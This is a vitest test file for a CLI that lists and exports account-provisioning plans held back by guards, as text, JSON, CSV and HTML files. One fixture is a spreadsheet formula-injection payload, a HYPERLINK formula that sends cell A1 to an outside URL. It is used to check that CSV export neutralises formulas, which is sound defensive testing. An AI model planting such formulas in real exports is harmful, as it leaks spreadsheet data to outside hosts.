/** `plans`, `plan` and `plan show` of plans that guards have looked at: as text, JSON, CSV and as a page in a file. */
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { csvLine } from '../../client/cli/csv.ts';
import type { WholePlan } from '../../client/cli/plan-text.ts';
import { ReaderClient } from '../../reader/client.ts';
import { stopTexts } from '../../reader/plan-guard-texts.ts';
import type { PreviewResult } from '../../workflows/contract.ts';
import { aChange, planOf } from '../reader/a-plan.ts';
import { addPlan, tripped } from '../reader/guarded-plans.ts';
import { type ReaderUnderTest, readerUnderTest } from '../reader/reader-under-test.ts';
import { runCommand, runWith } from './fake-lockstep.ts';

const formula = '=HYPERLINK("http://example.org/?"&A1;"x")';
let reader: ReaderUnderTest;
let url: string;
let hash: string;
let dir: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'lockstep-plans-'));
  reader = await readerUnderTest();
  url = await reader.app.listen({ host: '127.0.0.1', port: 0 });
  hash = await addPlan(reader.store, {
    id: 'guarded',
    kind: 'preview',
    verdict: [tripped],
    stoppedBy: ['deactivations', 'adoptedGroup'],
    displayName: formula,
  });
});
afterAll(async () => {
  await reader.close();
  rmSync(dir, { recursive: true });
});

const lockstep = (...args: string[]) =>
  runCommand(args, { env: { LOCKSTEP_READER_URL: url, LOCKSTEP_READER_TOKEN: 'right' } });
const prefix = () => hash.slice(0, 12);

describe('plans', () => {
  test('are a table with what waits, the beginning of the hash, and the state', async () => {
    const { code, stdout } = await lockstep('plans', '--target', 'cloud');
    expect(code).toBe(0);
    expect(stdout).toMatch(/^MADE +TARGET +KIND +CHANGES +WAITING +HASH +STATE +PLAN\n/);
    expect(stdout).toMatch(new RegExp(`UTC +cloud +preview +2 +2 +${prefix()} +waits for approval +guarded\n`));
    expect(stdout).toMatch(/UTC +cloud +run +3 +- +h +is carried out +plan-1\n/);
  });

  test('are listed by kind, and as JSON', async () => {
    const { json } = await lockstep('plans', '--kind', 'preview', '--output', 'json');
    expect(json()).toMatchObject([{ id: 'guarded', hash, waiting: 2, state: 'waiting' }]);
    expect((await lockstep('plans', '--kind', 'revision')).stdout).toBe('no plans yet\n');
    expect((await lockstep('plans', '--kind', 'none')).code).toBe(2);
  });
});

describe('a plan', () => {
  const preview: PreviewResult = {
    plans: [{ target: 'cloud', plan: { planId: 'guarded', changes: 2, attention: 0, hash: 'h' } }],
  };
  const planning = (...args: string[]) =>
    runWith({ reader: new ReaderClient({ url, token: 'right' }), plan: async () => ({ requestId: 'r', ...preview }) }, [
      'plan',
      ...args,
    ]);

  test('ends with the verdict of the guards, its hash, and the command to go on with', async () => {
    const { code, stdout, stderr } = await planning();
    expect(code).toBe(3);
    expect(stdout).toMatch(
      /deactivate account +bob@example\.com .*\[waits: more deactivations than go without approval\]/,
    );
    expect(stdout).toContain(
      [
        'cloud: guards',
        '  deactivations: 50 of at most 10 in one run; waits for approval',
        `    → ${stopTexts.deactivations.advice}`,
        '  first removals from an adopted group: 1 held back',
        `    → ${stopTexts.adoptedGroup.advice}`,
        `cloud: plan guarded, hash ${prefix()}, good until 2099-01-01 00:00:00 UTC`,
        'cloud: waits for approval. 2 of 2 changes wait for approval.',
      ].join('\n'),
    );
    expect(stdout).toContain(`    → lockstep approve guarded --hash ${prefix()} --reason CODE\n`);
    expect(stderr).toContain('Nothing was changed');
  });

  test('as CSV is one table over all targets', async () => {
    const { code, stdout } = await planning('--output', 'csv');
    expect(code).toBe(3);
    expect(stdout.split('\r\n')[0]).toMatch(/^target,plan,seq,kind,reason,why,person_id,login,email,/);
    expect(stdout.split('\r\n')).toHaveLength(4);
  });

  test('as a page is of one target, which is told before anything is started', async () => {
    const two = new ReaderClient({ url, token: 'right' });
    two.targets = async () => ({ items: ['cloud', 'other'].map((name) => ({ name, kind: 'atlassian-cloud' })) });
    const { code, stderr } = await runWith({ reader: two }, ['plan', '--output', 'html']);
    expect([code, stderr]).toEqual([2, 'a page shows the plan of one target\n    → name one of: cloud, other\n']);
    expect((await planning('--output', 'html')).stdout).toMatch(/^<!doctype html>[\s\S]*<\/html>\n$/);
  });
});

describe('a plan whose removals stand far down', () => {
  const changes = [
    ...Array.from({ length: 1234 }, (_, seq) => aChange(seq)),
    ...[1234, 1235].map((seq) => aChange(seq, { kind: 'remove-member', group: { id: '00g1', name: 'ops' } })),
  ];
  const shown = (...args: string[]) => {
    const far = new ReaderClient({ url, token: 'right' });
    far.plan = async () => planOf(changes);
    far.findings = async function* () {};
    far.changes = async function* () {
      yield* changes;
    };
    return runWith({ reader: far }, ['plan', 'show', 'far', ...args]);
  };

  test('lists them first as text, says so, and counts for people', async () => {
    const { stdout } = await shown();
    const lines = stdout.split('\n');
    expect(lines[0]).toBe('cloud: 1,236 changes: 2 remove from group, 1,234 create account');
    expect(lines[1]).toBe('  What takes something away is listed first; JSON and CSV tell the order of work.');
    expect(lines[2]).toContain('p1234@example.com ✕ ops');
    expect(lines[3]).toContain('p1235@example.com ✕ ops');
    expect(lines[4]).toContain('p0@example.com');
    expect(stdout).toContain('… and 1,136 more: lockstep plan show');
    expect((await shown('--all')).stdout.match(/create account +p/g)).toHaveLength(1234);
  });

  test('keeps the order of work for programs, with plain numbers', async () => {
    const { changes: count, listed } = (await shown('--output', 'json')).json() as WholePlan;
    expect([count, listed.map(({ seq }) => seq)]).toEqual([1236, changes.map(({ seq }) => seq)]);
    const { stdout } = await shown('--output', 'csv');
    expect(
      stdout
        .split('\r\n')
        .slice(1, -1)
        .map((line) => line.split(',')[2]),
    ).toEqual(changes.map(({ seq }) => String(seq)));
  });
});

describe('plan show', () => {
  test('as CSV quotes what needs it, and lets no cell pass for a formula', async () => {
    const { code, stdout } = await lockstep('plan', 'show', 'guarded', '--output', 'csv');
    expect(code).toBe(0);
    const [, first, second] = stdout.split('\r\n');
    expect(first).toMatch(/^cloud,guarded,0,deactivate-account,okta-deprovisioned,deactivated at Okta,00u\w+,bob@/);
    expect(first).toContain(',,,deactivations,,,,,');
    expect(second).toContain(`"{""displayName"":""${formula.replaceAll('"', '\\""')}""}"`);
    expect(csvLine([formula, '+1', '-1', '@a', '\ta', 'a=b', 'two\nlines', undefined, 7])).toBe(
      `"'${formula.replaceAll('"', '""')}",'+1,'-1,'@a,'\ta,a=b,"two\nlines",,7\r\n`,
    );
  });

  test('as a page goes to a file that only its owner reads, and stdout stays empty', async () => {
    const file = join(dir, 'plan.html');
    const { code, stdout, stderr } = await lockstep('plan', 'show', 'guarded', '--output', 'html', '--file', file);
    expect([code, stdout, stderr]).toEqual([0, '', `Written to ${file}\n`]);
    const html = readFileSync(file, 'utf8');
    expect(html).toContain(`lockstep approve guarded --hash ${prefix()} --reason CODE`);
    expect(html).not.toContain('href="/plans"');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(readdirSync(dir)).toEqual(['plan.html']);
  });

  test('of a plan that nobody knows writes no file', async () => {
    const file = join(dir, 'none.html');
    const { code, stderr } = await lockstep('plan', 'show', 'nothing', '--output', 'html', '--file', file);
    expect(code).toBe(1);
    expect(stderr).toContain('there is no plan with this id');
    expect(readdirSync(dir)).not.toContain('none.html');
  });

  test('to a file that cannot be written, or of text, is refused with what to do', async () => {
    const lost = await lockstep('plan', 'show', 'guarded', '--output', 'csv', '--file', join(dir, 'no', 'where.csv'));
    expect([lost.code, lost.stderr]).toEqual([2, expect.stringContaining('cannot write')]);
    const text = await lockstep('plan', 'show', 'guarded', '--file', join(dir, 'plan.txt'));
    expect([text.code, text.stderr]).toEqual([2, expect.stringContaining('--file goes with --output csv or html')]);
  });

  test('refuses a format that the other commands do not have either', async () => {
    expect((await lockstep('plan', 'show', 'guarded', '--output', 'xml')).code).toBe(2);
    expect((await lockstep('runs', '--output', 'csv')).code).toBe(2);
  });
});
